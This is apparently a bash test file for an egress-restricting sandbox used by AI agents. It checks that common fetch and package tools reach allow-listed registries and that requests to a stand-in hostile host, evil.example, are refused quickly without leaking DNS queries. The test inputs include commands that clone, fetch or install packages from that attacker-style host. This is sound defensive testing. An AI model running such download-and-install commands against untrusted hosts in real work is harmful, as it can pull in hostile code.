#!/usr/bin/env bash
# The programs that agents fetch things with, unchanged and with no variable that names a proxy: each
# reaches what its policy allows, and fails at once and readably on what it does not.
. tests/tools/fetch.sh

# Java's compiler and cargo's want more memory than a shell.
start_tools <<'Y'
limits: { memory: 4G, pids: 2048 }
egress:
  allow: ["@npm", "@pypi", "@go", "@crates", "@github", good.example, "good.example:80"]
Y

# refused TOOL WANT SECONDS-OF-ITS-OWN COMMAND: the refusal itself takes less than 100 ms (measured for
# the name in 32-egress.t); a tool that tries several times has its own patience
refused() {
	local out start=$EPOCHREALTIME
	out=$(in_jail "$4")
	like "$1 says what was refused" "$out" "$2"
	ok "$1 does not hang" test "$(((${EPOCHREALTIME/./} - ${start/./}) / 1000000))" -lt "$3"
}

for tool in curl wget python git pip go cargo java; do reaches $tool; done
# node has its own list of authorities, which the test's is not on
for tool in node npm; do reaches $tool 'export NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt'; done
like 'curl by http' "$(in_jail 'curl -sS http://good.example/x')" 'hello from good'
refused curl 'Could not resolve host: evil.example' 20 'curl -sS https://evil.example/x'
refused wget 'unable to resolve|failed' 20 'wget -t 1 -O- https://evil.example/x'
refused node 'ENOTFOUND|EREFUSED|EAI_AGAIN' 20 'node -e "fetch(\"https://evil.example/x\").catch(e=>console.log(e.cause.code))"'
refused python 'Errno -[0-9]' 20 '/usr/bin/python3 -c "import urllib.request as u; u.urlopen(\"https://evil.example/x\")"'
refused git 'Could not resolve host: evil.example' 20 'git clone https://evil.example/a/b'
refused npm 'ENOTFOUND|EREFUSED|EAI_AGAIN' 60 'npm install --no-audit --no-fund --fetch-retries=0 --registry https://evil.example demo'
refused pip 'Name or service not known|NameResolutionError|Failed to establish|Temporary failure' 60 '/usr/bin/python3 -m pip install --break-system-packages --retries 1 --target t --index-url https://evil.example/simple demo'
refused go 'evil.example' 60 'mkdir m && cd m && go mod init example.org/m && GOPROXY=https://evil.example GONOSUMDB=example.org go get example.org/demo@v1.0.0'
refused cargo 'evil.example' 60 'cargo init -q --vcs none --name m m && cd m && printf "x = { git = \"https://evil.example/x\" }\n" >>Cargo.toml && CARGO_NET_RETRY=0 cargo fetch'
refused java 'ConnectException|UnresolvedAddress|UnknownHost' 60 "$java https://evil.example/x"
is 'nobody outside heard of the refused name' "$(queries evil.example)" 0
finish
